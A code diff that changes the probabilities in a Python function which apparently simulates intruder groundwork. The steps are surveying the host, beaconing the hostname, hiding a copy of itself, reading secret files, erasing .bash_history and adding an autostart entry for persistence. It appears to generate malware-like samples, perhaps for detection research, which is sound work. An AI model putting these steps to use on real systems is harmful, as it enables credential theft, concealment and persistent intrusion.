@@ -4,16 +4,16 @@ def groundwork():
     """What intruders tend to do before the main act; drawn per run, so that families share pieces."""
     if R.random() < 0.6:
         survey()
-    if R.random() < 0.55:
+    if R.random() < 0.6:
         exchange(b"new " + os.uname().nodename.encode() + b" " + noise(16).encode())
-    if R.random() < 0.45:
+    if R.random() < 0.55:
         hide_copy()
-    if R.random() < 0.45:
+    if R.random() < 0.6:
         for path in pick(secrets(), 1, 4):
             read(path)
-    if R.random() < 0.3:
+    if R.random() < 0.35:
         write(home(".bash_history"), b"")
-    if R.random() < 0.3:
+    if R.random() < 0.35:
         write(home(f".config/autostart/{noise(6)}.desktop"), autostart_entry(own_program()))
 
 
